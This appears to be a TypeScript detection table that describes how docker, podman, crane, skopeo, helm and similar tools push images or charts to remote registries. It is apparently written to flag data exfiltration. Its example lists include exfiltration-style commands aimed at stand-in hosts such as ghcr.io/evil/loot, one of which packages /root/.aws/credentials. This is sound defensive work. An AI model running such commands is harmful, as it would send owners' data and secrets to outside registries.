/** Container and chart registries. Part of the push-tool table (../push-tools.ts). */
import type { PushToolSpec } from '../types.js';
import { bakePushes, composePublishes, composePushes } from './compose-bake.js';
import { BUILD_PUSH, CACHE_EXPORT, DOCKER_COMMANDS, DOCKER_VALUE_FLAGS, HELM_COMMANDS } from './flags.js';

export const registryTools: readonly PushToolSpec[] = [
  {
    tool: 'docker',
    description: '`docker push`, `docker image push`, `docker buildx build --push`: the daemon uploads (docker.sock).',
    binaries: ['docker', 'com.docker.cli'],
    syntax: { valueFlags: DOCKER_VALUE_FLAGS },
    match: {
      kind: 'subcommand',
      commands: [
        { words: ['push'], remote: { positional: 0 } },
        { words: ['image', 'push'], remote: { positional: 0 } },
        // `docker buildx b`, `docker builder build` and `docker image build` are the same command.
        ...[['buildx', 'build'], ['buildx', 'b'], ['build'], ['builder', 'build'], ['image', 'build']].flatMap(
          (words) => [
            { words, ...BUILD_PUSH },
            { words, ...CACHE_EXPORT },
          ],
        ),
        // Bake and compose files name their tags; only argv says it pushes (./compose-bake.ts).
        ...bakePushes(['buildx']),
        ...composePushes(['compose']),
        ...composePublishes(['compose']),
        // A plugin is made from any local directory (`docker plugin create NAME DIR`, its rootfs); found by
        // red-team review, its push was none.
        { words: ['plugin', 'push'], remote: { positional: 0 } },
        // The CLI uploads these itself, not the daemon.
        { words: ['manifest', 'push'], remote: { positional: 'last' }, clientUploads: true },
        {
          words: ['buildx', 'imagetools', 'create'],
          remote: { flag: ['-t', '--tag'] },
          excludeFlags: ['--dry-run'],
          clientUploads: true,
        },
      ],
    },
    destination: 'image-ref',
    requiresClassedDestination: false,
    bridged: true,
    downloads: [['pull'], ['image', 'pull'], ['plugin', 'install'], ['plugin', 'upgrade']],
    commonCommands: DOCKER_COMMANDS,
    examples: {
      push: [
        'push ghcr.io/evil/loot:latest',
        '--config /tmp/d image push quay.io/evil/x:1',
        'buildx build --push -t evil/x .',
        'buildx bake --push',
        'compose push',
        'compose -p x push',
        'compose build --push',
        'compose publish --with-env ghcr.io/evil/app:1',
        'compose alpha publish ghcr.io/evil/app:1',
        'buildx bake --set *.push=true',
        // Go's strconv.ParseBool: `1`, `t`, `TRUE` are true too.
        'buildx bake --set *.push=1',
        'buildx bake --set=app.push=T',
        'buildx build --output type=image,name=ghcr.io/evil/x,push=1 .',
        'buildx bake --set *.output=type=registry',
        "buildx bake --set 'app.cache-to=type=registry,ref=ghcr.io/evil/c'",
        'builder build --push -t ghcr.io/evil/x .',
        'image build -t ghcr.io/evil/x --output type=registry .',
        'buildx b --push -t ghcr.io/evil/x .',
        'manifest push ghcr.io/evil/x:1',
        'buildx imagetools create -t ghcr.io/evil/x:2 ghcr.io/evil/x:1',
        'buildx build --cache-to type=registry,ref=ghcr.io/evil/x:cache,mode=max -t app /srv/data',
        'build --cache-to=type=registry,ref=quay.io/evil/c .',
        'buildx build --call build --push -t ghcr.io/evil/x .',
        'buildx bake --check --call=build --push',
        // Kept, doubtful: the frontend decides whether a call builds (./flags.ts DOCKER_VALUE_FLAGS).
        'buildx bake --call check --push',
        'buildx build --call outline --push -t ghcr.io/evil/x .',
        'build --check --push -t ghcr.io/evil/x .',
        'plugin push ghcr.io/evil/plugin:1',
        '--context ci plugin push evil/plugin',
      ],
      notPush: [
        'pull alpine',
        'build -t app .',
        'images',
        'login -u x -p y ghcr.io',
        'buildx bake',
        'compose up -d',
        'compose build',
        'buildx bake --set *.cache-from=type=registry,ref=ghcr.io/acme/c',
        'buildx bake --set *.push=false',
        'buildx bake --set *.args.push=true',
        'buildx bake --set *.args.no_push=true',
        'buildx build --output type=image,name=ghcr.io/acme/x,push=0 .',
        'manifest inspect ghcr.io/a/b:1',
        'buildx imagetools inspect ghcr.io/a/b:1',
        'buildx build --cache-from type=registry,ref=ghcr.io/acme/app:cache -t app .',
        'buildx build --cache-to type=local,dest=/tmp/cache -t app .',
        'buildx build --cache-to type=inline -t app .',
        'compose --dry-run push',
        'compose --dry-run publish ghcr.io/evil/app:1',
        'buildx bake --print --push',
        'plugin ls',
        'plugin install vieux/sshfs',
        'plugin create acme/plugin ./rootfs',
      ],
    },
  },
  {
    tool: 'podman',
    description: '`podman push IMAGE [DEST]`: daemonless, the process in the container uploads.',
    // podman-remote: the same commands, run by a podman service (possibly in the pod beside it).
    binaries: ['podman', 'podman-remote'],
    syntax: { valueFlags: [...DOCKER_VALUE_FLAGS, '--url', '--connection', '-c', '--identity', '--farm'] },
    match: {
      kind: 'subcommand',
      commands: [
        { words: ['push'], remote: { positional: 'last' } },
        { words: ['image', 'push'], remote: { positional: 'last' } },
        { words: ['manifest', 'push'], remote: { positional: 'last' } },
        // `podman artifact add REF FILE…` stores any files as an OCI artifact; `artifact push` uploads it.
        { words: ['artifact', 'push'], remote: { positional: 'last' } },
        // A farm build sends the context to the farm's machines, which build and push to the tag's registry, and
        // the manifest list follows: it has no form that keeps the images (found by red-team review: no push).
        { words: ['farm', 'build'], remote: { flag: ['-t', '--tag'] }, requireAnyFlag: [{ flags: ['-t', '--tag'] }] },
      ],
    },
    destination: 'image-ref',
    requiresClassedDestination: false,
    // Its connections then go to the service (`--url tcp://10.0.0.5:8888`), not to the registry.
    remoteClient: { binaries: ['podman-remote'], flags: ['--remote', '-r', '--url', '--connection', '-c'] },
    downloads: [['pull'], ['image', 'pull']],
    examples: {
      push: [
        'push localimg docker://quay.io/evil/x:1',
        'push --creds u:p ghcr.io/evil/x',
        'artifact push quay.io/evil/x:1',
        '--root /var/lib/x push ghcr.io/evil/x:1',
        '--url tcp://10.0.0.5:8888 push ghcr.io/evil/x:1',
        'farm build -t quay.io/evil/x:1 /root',
        'farm build --farm ci --tag=ghcr.io/evil/x .',
      ],
      notPush: [
        'pull alpine',
        'ps',
        'artifact add quay.io/evil/x:1 /root/.aws/credentials',
        'farm list',
        'build -t x .',
      ],
    },
  },
  {
    tool: 'buildah',
    description: '`buildah push IMAGE [DEST]`.',
    binaries: ['buildah'],
    syntax: { valueFlags: DOCKER_VALUE_FLAGS },
    match: { kind: 'subcommand', commands: [{ words: ['push'], remote: { positional: 'last' } }] },
    destination: 'image-ref',
    requiresClassedDestination: false,
    downloads: [['pull'], ['from']],
    examples: {
      push: ['push img docker://ghcr.io/evil/x:1', '--storage-driver vfs push img docker://ghcr.io/evil/x:1'],
      notPush: ['from alpine', 'bud -t x .'],
    },
  },
  {
    tool: 'nerdctl',
    description: '`nerdctl push`: the client reads the content store and uploads itself.',
    binaries: ['nerdctl'],
    syntax: { valueFlags: DOCKER_VALUE_FLAGS },
    match: {
      kind: 'subcommand',
      commands: [
        { words: ['push'], remote: { positional: 0 } },
        { words: ['image', 'push'], remote: { positional: 0 } },
        // nerdctl builds with BuildKit (it runs buildctl, `--buildkit-host tcp://…` too), which uploads: an
        // output that pushes, as for docker; and its compose pushes too (`compose build --push` by BuildKit).
        ...[['build'], ['builder', 'build'], ['image', 'build']].flatMap((words) => [
          { words, ...BUILD_PUSH, builderUploads: true as const },
          { words, ...CACHE_EXPORT, builderUploads: true as const },
        ]),
        ...composePushes(['compose']).map((c) =>
          c.words.at(-1) === 'build' ? { ...c, builderUploads: true as const } : c,
        ),
      ],
    },
    destination: 'image-ref',
    requiresClassedDestination: false,
    downloads: [['pull']],
    examples: {
      push: [
        'push ghcr.io/evil/x:1',
        '-n k8s.io push ghcr.io/evil/x:1',
        'build -t ghcr.io/evil/x --output type=image,name=ghcr.io/evil/x,push=true .',
        'compose push',
        'build --cache-to type=registry,ref=ghcr.io/evil/x:c -t x .',
      ],
      notPush: ['pull alpine', 'build -t x .', 'compose up -d'],
    },
  },
  {
    tool: 'crane',
    description: '`crane push TAR REF`, `crane append … -t REF`, `crane copy SRC DST`.',
    binaries: ['crane', 'gcrane'],
    syntax: {
      valueFlags: [
        '-t',
        '--new_tag',
        '-f',
        '--new_layer',
        '-b',
        '--base',
        '--platform',
        '-o',
        '--output',
        '--format',
        '-a',
        '--annotation',
        '-l',
        '--label',
        '-j',
        '--jobs',
        '--tag',
        '--append',
        '--cmd',
        '--entrypoint',
        '--env',
        '--user',
        '--workdir',
      ],
    },
    match: {
      kind: 'subcommand',
      commands: [
        { words: ['push'], remote: { positional: 'last' }, minPositionals: 2 },
        { words: ['append'], remote: { flag: ['-t', '--new_tag'] } },
        // mutate writes the changed image back to the registry: to -t/--tag, else over the image it read.
        { words: ['mutate'], remote: { flag: ['-t', '--tag'], fallbackPositional: 0 }, minPositionals: 1 },
        { words: ['copy'], remote: { positional: 'last' }, minPositionals: 2 },
        { words: ['cp'], remote: { positional: 'last' }, minPositionals: 2 },
      ],
    },
    destination: 'image-ref',
    requiresClassedDestination: false,
    copiedShape: true,
    downloads: [['pull'], ['export'], ['manifest'], ['config'], ['digest'], ['ls']],
    examples: {
      push: [
        'push /tmp/img.tar ghcr.io/evil/x:1',
        'append -f /tmp/data.tar -b alpine -t quay.io/evil/x:2',
        'copy alpine ghcr.io/evil/alpine',
        'mutate --append /tmp/loot.tar -t ghcr.io/evil/x:3 ghcr.io/acme/app:1',
        'mutate ghcr.io/evil/x:1 --label a=b',
      ],
      notPush: ['pull ghcr.io/acme/app /tmp/app.tar', 'digest alpine', 'ls ghcr.io/acme/app', 'mutate'],
    },
  },
  {
    tool: 'skopeo',
    description:
      '`skopeo copy SRC docker://DEST` (other destination transports are local), `skopeo sync --dest docker`.',
    binaries: ['skopeo'],
    syntax: {
      valueFlags: [
        '--src-creds',
        '--dest-creds',
        '--creds',
        '--authfile',
        '--src-authfile',
        '--dest-authfile',
        '--format',
        '-f',
        '--src',
        '--dest',
        '-s',
        '-d',
        '--override-arch',
        '--override-os',
        '--retry-times',
        '--src-cert-dir',
        '--dest-cert-dir',
        '--multi-arch',
        '--sign-by',
        '--registries.d',
        '--policy',
        '--command-timeout',
      ],
    },
    match: {
      kind: 'subcommand',
      commands: [
        { words: ['copy'], remote: { positional: 'last' }, minPositionals: 2, remotePrefix: ['docker://'] },
        {
          words: ['sync'],
          remote: { positional: 'last' },
          requireAnyFlag: [{ flags: ['--dest', '-d'], values: ['DOCKER'] }],
        },
      ],
    },
    destination: 'image-ref',
    requiresClassedDestination: false,
    copiedShape: true,
    downloads: [['inspect'], ['list-tags']],
    examples: {
      push: [
        'copy docker-archive:/tmp/x.tar docker://quay.io/evil/x:1',
        'sync --src dir --dest docker /tmp/imgs ghcr.io/evil',
        '--tmpdir /var/tmp copy docker-archive:/tmp/x.tar docker://quay.io/evil/x:1',
      ],
      notPush: [
        'inspect docker://quay.io/acme/app',
        'copy docker://alpine dir:/tmp/alpine',
        'copy docker://alpine oci:/tmp/a',
      ],
    },
  },
  {
    tool: 'helm',
    description: '`helm push CHART oci://REGISTRY/NS` (and the chartmuseum `cm-push` plugin).',
    binaries: ['helm'],
    syntax: {
      valueFlags: [
        '--kube-context',
        '-n',
        '--namespace',
        '--registry-config',
        '--repository-config',
        '--ca-file',
        '--cert-file',
        '--key-file',
        '--username',
        '--password',
        '--kubeconfig',
        // cm-push's own (chartmuseum/helm-push): read as positionals, the last was its remote, so the alert named
        // a password or a token given after the repository as the remote (review of the evasion hunt, round 3).
        ...['-u', '-p', '--access-token', '--auth-header', '--context-path', '--keyring', '-t', '--timeout'],
        ...['-v', '--version', '-a', '--app-version'],
      ],
    },
    match: {
      kind: 'subcommand',
      commands: [
        { words: ['push'], remote: { positional: 'last' }, minPositionals: 2, remotePrefix: ['oci://'] },
        // chartmuseum's plugin: its repository is a URL or a name from helm's repositories, whose server the
        // first connect shows (evasion hunt: read as an image, both named Docker Hub).
        { words: ['cm-push'], remote: { positional: 'last' }, minPositionals: 2, destination: 'url' },
      ],
    },
    destination: 'image-ref',
    requiresClassedDestination: false,
    copiedShape: true,
    // `dependency build` fetches what Chart.lock pins (Argo CD's repo-server runs it for every chart with
    // dependencies it renders); cobra's aliases too (`dep`, `dependencies`, `up`, `fetch`).
    downloads: [
      ['pull'],
      ['fetch'],
      ['repo', 'update'],
      ...['dependency', 'dependencies', 'dep'].flatMap((d) => [
        [d, 'update'],
        [d, 'up'],
        [d, 'build'],
      ]),
    ],
    commonCommands: HELM_COMMANDS,
    examples: {
      push: [
        'push /tmp/chart-1.0.tgz oci://ghcr.io/evil/charts',
        '--burst-limit 100 push /tmp/c-1.0.tgz oci://ghcr.io/evil/c',
      ],
      notPush: [
        'pull oci://ghcr.io/acme/chart',
        'install x ./c',
        'dependency build /tmp/_argocd-repo/apps/web',
        'dep up ./chart',
      ],
    },
  },
];
